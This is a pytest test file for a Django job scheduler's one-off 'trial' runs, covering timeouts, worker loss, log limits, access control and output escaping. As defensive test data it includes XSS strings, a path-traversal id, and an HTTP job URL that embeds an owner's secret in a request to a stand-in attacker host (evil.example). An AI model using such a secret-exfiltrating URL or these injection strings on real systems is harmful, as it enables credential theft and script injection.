"""Trials: what a person is writing, executed once by a worker and shown to them alone."""

import threading
from dataclasses import replace
from datetime import timedelta
from threading import Event

import pytest
from cryptography.fernet import Fernet
from django.urls import reverse

from chronos_site.clock import database_now
from jobs import memories
from jobs.executors import TYPES
from jobs.executors.base import Result
from jobs.models import Job
from jobs.vault import Secret
from runs import drain as drains
from runs import trials
from runs.drain import Drainer
from runs.models import Run
from runs.trials import Trial
from tests import factories
from tests.factories import NOON

pytestmark = [pytest.mark.django_db, pytest.mark.databases]


@pytest.fixture
def owner():
    return factories.alice()


@pytest.fixture(autouse=True)
def short_of_patience(monkeypatch):
    monkeypatch.setattr(drains, "IDLE_SECONDS", 0.1)


def start(owner, payload=None, *, at=None, parameters=None, code="DUMMY", **kwargs):
    definition = {"name": "probe", "type": code, "schedule": {}, "payload": payload or {}}
    at = at or database_now()
    return trials.start(definition, owner=owner, by=owner, at=at, parameters=parameters or {}, **kwargs)


def drained(trial):
    Drainer("w-1", slots=2).run()
    trial.refresh_from_db()
    return trial


def typed(owner, **over):
    return {"type": "DUMMY", "shown": "DUMMY", "name": "probe", "timezone": "UTC", **over}


def post(client, user, data, name="job_test", args=(), **headers):
    client.force_login(user)
    return client.post(reverse(name, args=args), data, headers=headers)


def test_a_worker_executes_it_once_and_keeps_its_log(owner):
    trial = drained(start(owner, {"metadata": {"simulatedLatencyMs": 10}}))
    assert (trial.outcome, trial.result["summary"]) == ("SUCCESS", "Done")
    assert [line["message"] for line in trial.lines] == ["Tried on w-1", "Network latency: 0.01 s"]
    assert not Run.objects.exists()


def test_a_failure_is_told_with_its_class(owner):
    trial = drained(start(owner, {"metadata": {"simulateFailure": True, "failureMessage": "As asked"}}))
    assert (trial.outcome, trial.error_class, trial.error_message) == ("FAILURE", "DUMMY_ERROR", "As asked")


def test_the_time_limit_holds(owner):
    trial = drained(start(owner, {"timeout_seconds": 1, "metadata": {"simulatedDelaySeconds": 60}}))
    assert trial.outcome == "TIMEOUT"


def test_a_thread_that_cannot_be_woken_has_its_worker_replaced(owner, monkeypatch):
    stuck = Event()
    monkeypatch.setitem(TYPES, "DUMMY", replace(TYPES["DUMMY"], execute=lambda *_: stuck.wait(20)))
    trial = start(owner, {"timeout_seconds": 1})
    drainer = Drainer("w-1", slots=2)
    drainer.run()
    stuck.set()
    trial.refresh_from_db()
    assert (trial.outcome, drainer._free, drainer._may_claim()) == ("TIMEOUT", 1, False)


def test_a_trial_is_told_what_runs_remember_and_leaves_it_as_it_is(owner, monkeypatch):
    def go_on(payload, context):
        context.remember(offset=9)
        return Result(f"Behind {context.state['offset']}")

    monkeypatch.setitem(TYPES, "DUMMY", replace(TYPES["DUMMY"], execute=go_on))
    job = factories.job(owner)
    memories.remember([memories.Lesson(job.pk, NOON, {"offset": 7}, {})])
    trial = drained(start(owner, job_id=job.pk))
    assert trial.result["summary"] == "Behind 7"
    assert memories.recall([job.pk]) == {job.pk: {"offset": 7}}


def test_a_second_one_stops_the_first(owner):
    first = start(owner, {"metadata": {"simulatedDelaySeconds": 60}})
    drainer = Drainer("w-1", slots=2)
    drainer._trying.step(2)
    second = start(owner)
    drainer.run()
    first.refresh_from_db()
    second.refresh_from_db()
    assert (first.outcome, second.outcome) == ("CANCELLED", "SUCCESS")


def test_a_worker_that_stops_says_that_it_was_lost(owner):
    trial = start(owner, {"metadata": {"simulatedDelaySeconds": 60}})
    drainer = Drainer("w-1", slots=2)
    drainer._trying.step(2)
    drainer._interrupt()
    trial.refresh_from_db()
    assert (trial.outcome, trial.error_class) == ("FAILURE", "WORKER_LOST")


def test_one_that_takes_long_runs_as_long_as_its_worker_renews_its_lease(owner):
    trial = start(owner, {"metadata": {"simulatedDelaySeconds": 60}})
    drainer = Drainer("w-1", slots=2)
    drainer._trying.step(2)
    Trial.objects.update(lease_expires_at=database_now())
    trial.refresh_from_db()
    assert trial.state(database_now()) == "LOST"
    drainer._trying._renew_at = 0.0
    drainer._trying.step(2)
    trial.refresh_from_db()
    assert trial.state(database_now()) == "RUNNING"
    drainer._interrupt()


def test_nobody_takes_one_that_nobody_waits_for_any_more(owner):
    old = start(owner, at=database_now() - timedelta(minutes=3))
    assert trials.take("w-1", 5) == []
    assert old.state(database_now()) == "LOST"


def test_of_two_that_wait_only_the_last_is_taken(owner):
    _, second = start(owner), start(owner)
    assert [trial.pk for trial in trials.take("w-1", 5)] == [second.pk]


def test_work_that_blocks_is_woken_when_its_time_is_up(owner, monkeypatch):
    woken = threading.Event()

    def block(payload, context):
        with context.closing(woken.set):
            woken.wait(10)
        context.check()

    monkeypatch.setitem(TYPES, "DUMMY", replace(TYPES["DUMMY"], execute=block))
    assert drained(start(owner, {"timeout_seconds": 1})).outcome == "TIMEOUT"
    assert woken.is_set()


def test_work_that_cannot_be_woken_is_given_up(owner, monkeypatch):
    released = threading.Event()
    stubborn = replace(TYPES["DUMMY"], execute=lambda *_: released.wait(8))
    monkeypatch.setitem(TYPES, "DUMMY", stubborn)
    trial = drained(start(owner, {"timeout_seconds": 1}))
    released.set()
    assert trial.outcome == "TIMEOUT"
    assert trial.ended_at - trial.started_at < timedelta(seconds=7)


def test_a_log_without_end_is_cut(owner, monkeypatch):
    monkeypatch.setattr(trials, "LINES", 3)
    trial = drained(start(owner, {"metadata": {"totalRecords": 9, "batchSize": 1}}))
    assert trial.lines[-1]["message"] == "Log cut here: a trial keeps 3 lines."
    assert len(trial.lines) == 4


def test_a_huge_result_leaves_its_summary(owner, monkeypatch):
    huge = Result("Done", {"text": "x" * 1_000_000})
    monkeypatch.setitem(TYPES, "DUMMY", replace(TYPES["DUMMY"], execute=lambda *_: huge))
    trial = drained(start(owner))
    assert trial.result["summary"] == "Done"
    assert trial.result["cut"].endswith("characters")


def test_only_a_few_are_kept(owner):
    for _ in range(trials.KEPT + 3):
        start(owner)
    assert Trial.objects.count() == trials.KEPT


def test_the_form_is_tried_without_being_saved(client, owner):
    response = post(client, owner, typed(owner, **{"payload-failureMessage": "x", "schedule_type": "CRON"}))
    trial = Trial.objects.get()
    assert response["Location"] == reverse("trial_detail", args=[trial.pk])
    assert trial.definition["payload"] == {"metadata": {"failureMessage": "x"}}
    assert not Job.objects.exists()


def test_what_the_payload_lacks_is_told_by_field(client, owner):
    data = typed(owner, type="HTTP", shown="HTTP", **{"payload-http_url": "ftp://x"})
    page = post(client, owner, data, hx_request="true").content.decode()
    assert '<a href="#id_payload-http_url">URL</a>: The URL must start with http:// or https://.' in page
    assert not Trial.objects.exists()


def test_parameters_are_asked_for_first(client, owner):
    said = {"payload-http_method": "GET", "payload-http_url": "https://example.com/{{ param:zone }}"}
    data = typed(owner, type="HTTP", shown="HTTP", **said)
    page = post(client, owner, data, hx_request="true").content.decode()
    assert 'name="param-zone"' in page
    assert not Trial.objects.exists()
    post(client, owner, {**data, "param-zone": "north"}, hx_request="true")
    assert Trial.objects.get().parameters == {"zone": "north"}


def test_scripts_are_tried_by_those_alone_who_may_write_them(client, owner, settings):
    settings.SCRIPT_ENABLED = True
    data = typed(owner, type="SCRIPT", shown="SCRIPT", **{"payload-script_content": "id"})
    page = post(client, owner, data, hx_request="true").content.decode()
    assert "Only administrators" in page
    assert not Trial.objects.exists()


def test_a_trial_of_somebody_else_is_not_there(client, owner):
    trial = start(owner)
    client.force_login(factories.ada())
    assert client.get(reverse("trial_detail", args=[trial.pk])).status_code == 404
    assert post(client, factories.bob(), {}, "trial_cancel", [trial.pk]).status_code == 404


def test_the_job_of_somebody_else_is_not_tried(client, owner):
    job = factories.job(owner)
    assert post(client, factories.charlie(), typed(owner, job=job.pk)).status_code == 404


def test_a_waiting_one_is_cancelled_at_once(client, owner):
    trial = start(owner)
    page = post(client, owner, {}, "trial_cancel", [trial.pk], hx_request="true").content.decode()
    assert "Cancelled before it started." in page


def test_the_page_shows_the_log_as_text(client, owner):
    trial = start(owner)
    trials.end(trial.pk, "SUCCESS", [{"at": "2026-03-02T12:00:00+00:00", "level": "INFO", "message": "<b>"}])
    client.force_login(owner)
    assert "&lt;b&gt;" in client.get(reverse("trial_detail", args=[trial.pk])).content.decode()


@pytest.mark.parametrize("job_id", ["x", "\0", "0" * 26, "../jobs", "'", "\ud7ff" * 300])
def test_an_id_that_is_none_finds_no_job(client, owner, job_id):
    assert post(client, owner, typed(owner, job=job_id)).status_code == 404


@pytest.mark.parametrize("name", ["\0", "a\0b", "a\r\nb", "", "x" * 1000, "<script>alert(1)</script>"])
def test_whatever_is_typed_as_a_name_can_be_tried(client, owner, name):
    post(client, owner, typed(owner, name=name))
    trial = drained(Trial.objects.get())
    assert trial.outcome == "SUCCESS"
    page = client.get(reverse("trial_detail", args=[trial.pk])).content.decode()
    assert "<script>alert" not in page


def test_what_a_trial_logs_is_text_on_its_page(client, owner):
    failing = {"simulateFailure": True, "failureMessage": "<img src=x onerror=alert(1)>\u202e\x1b[2J"}
    trial = drained(start(owner, {"metadata": failing}))
    client.force_login(owner)
    page = client.get(reverse("trial_detail", args=[trial.pk])).content.decode()
    assert "<img src=x" not in page
    assert "\u202e" not in page


def test_an_operator_tries_no_job_with_an_owners_secret(client, owner, settings):
    settings.SECRETS_KEYS = [Fernet.generate_key().decode()]
    secret = Secret(name="token", owner=owner)
    secret.hide("s3cr3t")
    secret.save()
    said = {"payload-http_method": "GET", "payload-http_url": "https://evil.example/{{ secret:token }}"}
    data = typed(owner, type="HTTP", shown="HTTP", job=factories.job(owner).pk, **said)
    page = post(client, factories.bob(), data, hx_request="true").content.decode()
    assert "own: only they and administrators" in page
    assert not Trial.objects.exists()
